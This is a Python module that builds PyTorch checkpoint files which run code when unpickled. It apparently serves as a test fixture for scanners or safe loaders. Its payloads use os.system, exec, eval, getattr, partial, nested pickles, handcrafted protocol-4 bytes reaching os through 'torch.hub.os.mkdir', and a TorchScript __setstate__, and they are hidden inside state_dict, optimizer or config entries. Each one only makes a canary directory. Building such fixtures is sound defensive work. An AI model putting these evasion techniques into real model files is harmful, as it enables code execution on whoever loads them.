"""Checkpoints that make whoever unpickles them write a file."""

import builtins
import operator
import os
import pickle
import random
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import torch
from torch import Tensor, nn

TORCHSCRIPT = 'TorchScript that writes when it is loaded'
DOTTED = 'a function of a module of a module of torch'


class Call:
    """What unpickling turns into the result of a call."""

    def __init__(self, function: Callable, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[Callable, tuple]:
        """What pickle is told to call."""
        return self.function, self.args


def _nested(canary: str) -> Call:
    """A pickle in a pickle, which torch reads by a function of its own."""
    inner = pickle.dumps(Call(os.mkdir, canary))
    return Call(torch.storage._load_from_bytes, inner)


def _apply(function: Call, argument: Any) -> Call:
    """Call what a call has returned."""
    return Call(list, Call(map, function, [argument]))


def _by_getattr(canary: str) -> Call:
    module = Call(__import__, 'os')
    return _apply(Call(getattr, module, 'mkdir'), canary)


class _Items:
    """A dict whose items are set to what calls return."""

    def __init__(self, canary: str) -> None:
        self.canary = canary

    def __reduce__(self) -> tuple:
        call = Call(os.mkdir, self.canary)
        return dict, (), None, None, iter([('weight', call)])


PAYLOADS: dict[str, Callable[[str], Any]] = {
    'os.system': lambda c: Call(os.system, f'mkdir {c}'),
    'os.mkdir': lambda c: Call(os.mkdir, c),
    'subprocess.call': lambda c: Call(subprocess.call, ['mkdir', c]),
    'builtins.exec': lambda c: Call(exec, f'import os; os.mkdir({c!r})'),
    'builtins.eval': lambda c: Call(eval, f'__import__("os").mkdir({c!r})'),
    'builtins.open': lambda c: Call(builtins.open, c, 'w'),
    'shutil.copytree': lambda c: Call(shutil.copytree, os.path.dirname(c), c),
    'builtins.getattr': _by_getattr,
    'functools.partial': lambda c: _apply(Call(partial, os.mkdir), c),
    'operator.methodcaller': lambda c: _apply(
        Call(operator.methodcaller, 'mkdir'), Call(Path, c)
    ),
    'builtins.map': lambda c: Call(list, Call(map, os.mkdir, [c])),
    'a pickle in a pickle': _nested,
    'items of a dict': _Items,
}
CONTAINERS = ('zip', 'legacy', 'bare pickle')


def write_malicious(
    rng: random.Random, folder: Path, canary: Path, weights: dict
) -> tuple[Path, str]:
    """Write one; its path and what it tries.

    Args:
        rng: Chooses what and where.
        folder: Where it is written.
        canary: What it makes if it is run.
        weights: What else it holds.
    """
    suffix = rng.choice(['.pth', '.pt', '.bin', '.safetensors', '.ckpt'])
    file = folder / f'malicious{suffix}'
    what = rng.choice([*PAYLOADS, DOTTED, TORCHSCRIPT])
    if what == TORCHSCRIPT:
        _write_torchscript(file, canary, weights)
        return file, what
    container = rng.choice(CONTAINERS)
    if what == DOTTED:
        _write_pickle(file, container, _dotted(str(canary)))
        return file, f'{what}, {container}'
    payload = PAYLOADS[what](str(canary))
    content = _place(rng, payload, weights)
    if container == 'bare pickle':
        file.write_bytes(pickle.dumps(content))
    else:
        zipped = container == 'zip'
        torch.save(content, file, _use_new_zipfile_serialization=zipped)
    return file, f'{what}, {container}'


def _place(rng: random.Random, payload: Any, weights: dict) -> Any:
    return rng.choice(
        [
            payload,
            dict(state_dict={**weights, 'extra': payload}),
            dict(state_dict=weights, meta=dict(config=[payload])),
            dict(state_dict=weights, optimizer=dict(state={0: (payload,)})),
            {**weights, 'extra': payload},
        ]
    )


def _dotted(canary: str) -> bytes:
    """Protocol 4 looks names with dots up attribute by attribute."""

    def text(word: str) -> bytes:
        return b'\x8c' + bytes([len(word)]) + word.encode()

    function = text('torch') + text('hub.os.mkdir') + b'\x93'
    return b'\x80\x04' + function + text(canary) + b'\x85R.'


def _write_pickle(file: Path, container: str, data: bytes) -> None:
    if container != 'zip':
        file.write_bytes(data)
        return
    with zipfile.ZipFile(file, 'w') as archive:
        archive.writestr('archive/data.pkl', data)
        archive.writestr('archive/version', '3\n')


def _write_torchscript(file: Path, canary: Path, weights: dict) -> None:
    """A module that saves a tensor when its state is set."""
    script = torch.jit.script(
        _Saves(str(canary), next(iter(weights.values())))
    )
    script.save(str(file))


class _Saves(nn.Module):
    path: str

    def __init__(self, path: str, weight: Tensor) -> None:
        super().__init__()
        self.path = path
        self.weight = nn.Parameter(weight.float())

    def forward(self) -> Tensor:
        return self.weight

    @torch.jit.export
    def __getstate__(self) -> tuple[str, Tensor, bool]:
        return self.path, self.weight, self.training

    @torch.jit.export
    def __setstate__(self, state: tuple[str, Tensor, bool]) -> None:
        self.path = state[0]
        self.weight = state[1]
        self.training = state[2]
        torch.save(state[1], state[0])
